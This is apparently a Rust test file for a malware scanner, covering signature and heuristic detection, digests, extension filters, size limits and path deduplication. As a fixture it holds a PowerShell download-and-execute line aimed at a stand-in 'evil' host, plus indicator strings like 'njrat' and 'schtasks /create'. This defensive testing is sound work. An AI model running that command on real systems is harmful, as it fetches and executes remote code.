use sha2::Digest;
use whereitbelongs::detection::Detection;
use whereitbelongs::detection::DetectionKind;
use whereitbelongs::rules::SignatureDb;
use whereitbelongs::rules::SignatureEntry;
use whereitbelongs::scan::dedup_paths;
use whereitbelongs::scan::extension_allowed;
use whereitbelongs::scan::file_extension_lowercase;
use whereitbelongs::scan::scan_content;
use whereitbelongs::scan::scan_decoded;
use whereitbelongs::scan::scan_file;
use whereitbelongs::scan::scan_paths;
use whereitbelongs::scan::should_scan;
use whereitbelongs::scan::FileEntry;
use whereitbelongs::scan::ScanOptions;
use whereitbelongs::scan::DEFAULT_MAX_FILE_SIZE_BYTES;
use whereitbelongs::scan::SIGNATURE_SEVERITY;

const EVIL: &str = "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://evil')";

fn rule(name: &str, family: &str, pattern: &str) -> SignatureEntry {
    SignatureEntry { name: name.to_string(), family: family.to_string(), pattern: pattern.to_string() }
}

fn njrat_rules() -> Vec<SignatureEntry> {
    vec![rule("njrat", "rat", "njrat")]
}

fn entry(path: &str, content: &[u8]) -> FileEntry {
    FileEntry::new(path.to_string(), content.len() as u64, content.to_vec())
}

fn direct_sha256_hex(bytes: &[u8]) -> String {
    let digest = sha2::Sha256::digest(bytes);
    let mut out = String::new();
    for b in digest.iter() {
        out.push_str(&format!("{:02x}", b));
    }
    out
}

fn is_signature(d: &Detection, name: &str, family: &str) -> bool {
    match &d.kind {
        DetectionKind::Signature { name: n, family: f } => n == name && f == family,
        DetectionKind::Heuristic { .. } => false,
    }
}

fn is_heuristic(d: &Detection) -> bool {
    matches!(d.kind, DetectionKind::Heuristic { .. })
}

#[test]
fn detects_simple_rat_pattern() {
    let content = "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://evil') # njrat";
    let files = vec![entry("bad.ps1", content.as_bytes())];
    let opts = ScanOptions::default();
    let detections = scan_paths(&files, njrat_rules(), opts);
    assert!(
        detections
            .iter()
            .any(|d| matches!(d.kind, DetectionKind::Signature { .. } | DetectionKind::Heuristic { .. })),
        "no detection found"
    );
    let without_rules = scan_paths(&files, Vec::new(), ScanOptions::default());
    assert!(
        without_rules
            .iter()
            .any(|d| matches!(d.kind, DetectionKind::Signature { .. } | DetectionKind::Heuristic { .. })),
        "no detection found"
    );
}

#[test]
fn default_options_have_documented_values() {
    let o = ScanOptions::default();
    assert!(o.include_extensions.is_none());
    assert!(o.enable_heuristics);
    assert_eq!(o.max_file_size_bytes, 16 * 1024 * 1024);
    assert_eq!(DEFAULT_MAX_FILE_SIZE_BYTES, 16_777_216);
}

#[test]
fn signature_match_gives_one_detection_with_digest() {
    let files = vec![entry("dir/sample.bin", b"njrat")];
    let found = scan_paths(&files, njrat_rules(), ScanOptions::default());
    assert_eq!(found.len(), 1);
    let d = &found[0];
    assert_eq!(d.path, "dir/sample.bin");
    assert!(is_signature(d, "njrat", "rat"));
    assert_eq!(d.severity, 8);
    assert_eq!(SIGNATURE_SEVERITY, 8);
    assert_eq!(d.sha256, Some(direct_sha256_hex(b"njrat")));
    assert_eq!(d.sha256.as_ref().map(|h| h.len()), Some(64));
}

#[test]
fn signature_digest_is_of_the_raw_bytes() {
    // Invalid UTF-8 around the pattern: the text is decoded lossily, the
    // digest is taken over the bytes as they are.
    let bytes: Vec<u8> = vec![0xff, 0xfe, b'n', b'j', b'r', b'a', b't', 0x80];
    let db = SignatureDb::load(njrat_rules());
    let found = scan_content("x.bin", &bytes, &db, &ScanOptions::default());
    let d = found.expect("the rule matches the decoded text");
    assert!(is_signature(&d, "njrat", "rat"));
    assert_eq!(d.sha256, Some(direct_sha256_hex(&bytes)));
}

#[test]
fn signature_matching_ignores_case() {
    let files = vec![entry("a.txt", b"xx NjRaT yy")];
    let found = scan_paths(&files, njrat_rules(), ScanOptions::default());
    assert_eq!(found.len(), 1);
    assert!(is_signature(&found[0], "njrat", "rat"));
}

#[test]
fn heuristic_hit_gives_one_detection_of_severity_six() {
    let files = vec![entry("bad.ps1", EVIL.as_bytes())];
    let found = scan_paths(&files, njrat_rules(), ScanOptions::default());
    assert_eq!(found.len(), 1);
    let d = &found[0];
    assert!(is_heuristic(d));
    assert_eq!(d.severity, 6);
    assert_eq!(d.sha256, None);
    assert_eq!(d.path, "bad.ps1");
    match &d.kind {
        DetectionKind::Heuristic { description } => {
            assert_eq!(description, "Suspicious script or RAT-like behavior indicators")
        }
        DetectionKind::Signature { .. } => panic!("expected a heuristic detection"),
    }
}

#[test]
fn signature_wins_over_heuristics() {
    let content = format!("{} njrat", EVIL);
    let files = vec![entry("bad.ps1", content.as_bytes())];
    let found = scan_paths(&files, njrat_rules(), ScanOptions::default());
    assert_eq!(found.len(), 1);
    assert!(is_signature(&found[0], "njrat", "rat"));
}

#[test]
fn heuristics_can_be_disabled() {
    let files = vec![entry("bad.ps1", EVIL.as_bytes())];
    let mut opts = ScanOptions::default();
    opts.enable_heuristics = false;
    let found = scan_paths(&files, njrat_rules(), opts);
    assert!(found.is_empty());
}

#[test]
fn clean_file_yields_nothing() {
    let files = vec![entry("readme.txt", b"nothing to see here")];
    let found = scan_paths(&files, njrat_rules(), ScanOptions::default());
    assert!(found.is_empty());
}

#[test]
fn oversized_file_is_never_reported() {
    let mut opts = ScanOptions::default();
    opts.max_file_size_bytes = 4;
    let files = vec![entry("big.bin", b"njrat"), entry("ok.bin", b"njra")];
    let found = scan_paths(&files, njrat_rules(), opts.clone());
    assert!(found.is_empty());

    // The size is the one that the file system reported.
    let mut reported_big = entry("big.bin", b"rdp");
    reported_big.size = 5;
    let db = SignatureDb::load(Vec::new());
    assert!(scan_file(&reported_big, &db, &opts).is_none());
    let mut at_limit = entry("edge.bin", b"rdp");
    at_limit.size = 4;
    assert!(scan_file(&at_limit, &db, &opts).is_some());
    assert!(opts.admits_size(4));
    assert!(!opts.admits_size(5));
    assert!(opts.admits_size(0));
}

#[test]
fn extension_filter_excludes_and_includes() {
    let mut opts = ScanOptions::default();
    opts.include_extensions = Some(vec!["exe".to_string()]);
    assert!(!should_scan("note.txt", &opts));
    assert!(should_scan("payload.EXE", &opts));
    assert!(should_scan("dir/inner/tool.exe", &opts));
    assert!(!should_scan("noextension", &opts));
    assert!(!should_scan("dir.exe/noextension", &opts));
    assert!(should_scan("noextension", &ScanOptions::default()));

    let files = vec![entry("note.txt", b"njrat"), entry("payload.EXE", b"njrat"), entry("plain", b"njrat")];
    let found = scan_paths(&files, njrat_rules(), opts);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].path, "payload.EXE");
}

#[test]
fn extension_is_lower_cased() {
    assert_eq!(file_extension_lowercase("payload.EXE"), Some("exe".to_string()));
    assert_eq!(file_extension_lowercase("a/b/c.Tar.GZ"), Some("gz".to_string()));
    assert_eq!(file_extension_lowercase("noext"), None);
    assert_eq!(file_extension_lowercase("archive.tar.GZ"), Some("gz".to_string()));
    assert_eq!(file_extension_lowercase("a.B"), Some("b".to_string()));
    assert_eq!(file_extension_lowercase("Report Final.DocX"), Some("docx".to_string()));
    assert_eq!(file_extension_lowercase("x"), None);
    assert_eq!(file_extension_lowercase(".hidden"), None);
    assert_eq!(entry("x/Y.Ps1", b"").extension, Some("Ps1".to_string()));
    assert_eq!(entry("x/y", b"").extension, None);
}

#[test]
fn extension_allowed_follows_the_filter() {
    let mut opts = ScanOptions::default();
    assert!(extension_allowed(&None, &opts));
    assert!(extension_allowed(&Some("exe".to_string()), &opts));
    opts.include_extensions = Some(vec!["dll".to_string(), "exe".to_string()]);
    assert!(extension_allowed(&Some("EXE".to_string()), &opts));
    assert!(extension_allowed(&Some("dll".to_string()), &opts));
    assert!(!extension_allowed(&Some("js".to_string()), &opts));
    assert!(!extension_allowed(&None, &opts));
    opts.include_extensions = Some(Vec::new());
    assert!(!extension_allowed(&Some("exe".to_string()), &opts));
}

#[test]
fn detections_keep_the_order_of_the_files() {
    let files = vec![
        entry("1.txt", b"keylogger"),
        entry("2.txt", b"clean"),
        entry("3.txt", b"NJRAT"),
        entry("4.txt", b"schtasks /create"),
    ];
    let found = scan_paths(&files, njrat_rules(), ScanOptions::default());
    let paths: Vec<&str> = found.iter().map(|d| d.path.as_str()).collect();
    assert_eq!(paths, vec!["1.txt", "3.txt", "4.txt"]);
    assert!(is_heuristic(&found[0]));
    assert!(is_signature(&found[1], "njrat", "rat"));
    assert!(is_heuristic(&found[2]));
}

#[test]
fn same_file_same_outcome() {
    let db = SignatureDb::load(njrat_rules());
    let opts = ScanOptions::default();
    let f = entry("a.bin", b"some njrat sample");
    let a = scan_file(&f, &db, &opts).expect("detected");
    let b = scan_file(&f, &db, &opts).expect("detected");
    assert_eq!(a.path, b.path);
    assert_eq!(a.severity, b.severity);
    assert_eq!(a.sha256, b.sha256);
    assert!(is_signature(&a, "njrat", "rat") && is_signature(&b, "njrat", "rat"));
}

#[test]
fn lossy_decoding_keeps_text_matchable() {
    let db = SignatureDb::load(Vec::new());
    let bytes: Vec<u8> = vec![0xff, b'R', b'D', b'P', 0xc0];
    let found = scan_content("bin", &bytes, &db, &ScanOptions::default());
    assert!(found.map(|d| is_heuristic(&d)).unwrap_or(false));
}

#[test]
fn decoded_content_is_matched_as_given() {
    let db = SignatureDb::load(njrat_rules());
    let opts = ScanOptions::default();
    let d = scan_decoded("p", "njrat", b"other bytes", &db, &opts).expect("rule matches the text");
    assert_eq!(d.sha256, Some(direct_sha256_hex(b"other bytes")));
    assert!(scan_decoded("p", "clean", b"njrat", &db, &opts).is_none());
}

#[test]
fn a_path_reached_twice_is_reported_once() {
    let files = vec![
        entry("root/a.bin", b"njrat"),
        entry("root/b.bin", b"keylogger"),
        entry("root/a.bin", b"njrat"),
        entry("root/b.bin", b"keylogger"),
        entry("root/c.bin", b"njrat"),
    ];
    let found = scan_paths(&files, njrat_rules(), ScanOptions::default());
    let paths: Vec<&str> = found.iter().map(|d| d.path.as_str()).collect();
    assert_eq!(paths, vec!["root/a.bin", "root/b.bin", "root/c.bin"]);
    // The first occurrence decides, also where it yields nothing.
    let files = vec![entry("x", b"clean"), entry("x", b"njrat")];
    assert!(scan_paths(&files, njrat_rules(), ScanOptions::default()).is_empty());
}

#[test]
fn dedup_keeps_first_occurrences_in_order() {
    let paths: Vec<String> = ["b", "a", "b", "c", "a", "b", "d"].iter().map(|p| p.to_string()).collect();
    assert_eq!(dedup_paths(&paths), vec!["b".to_string(), "a".to_string(), "c".to_string(), "d".to_string()]);
    assert_eq!(dedup_paths(&Vec::new()), Vec::<String>::new());
    let distinct: Vec<String> = ["x/1", "x/2", "X/1"].iter().map(|p| p.to_string()).collect();
    assert_eq!(dedup_paths(&distinct), distinct);
    let same: Vec<String> = vec!["p".to_string(); 4];
    assert_eq!(dedup_paths(&same), vec!["p".to_string()]);
}

#[test]
fn extension_of_a_path_with_directories() {
    assert_eq!(file_extension_lowercase("dir.d/Payload.tar.GZ"), Some("gz".to_string()));
    assert_eq!(file_extension_lowercase("/abs/dir/file.TXT"), Some("txt".to_string()));
    assert_eq!(file_extension_lowercase("dir.d/noext"), None);
    assert_eq!(entry("dir.d/Payload.tar.GZ", b"").extension, Some("GZ".to_string()));
    assert_eq!(entry("dir.d/noext", b"").extension, None);
    let mut opts = ScanOptions::default();
    opts.include_extensions = Some(vec!["gz".to_string()]);
    assert!(should_scan("dir.d/Payload.tar.GZ", &opts));
    assert!(!should_scan("dir.gz/Payload.tar", &opts));
    assert!(!should_scan("dir.gz/noext", &opts));
}
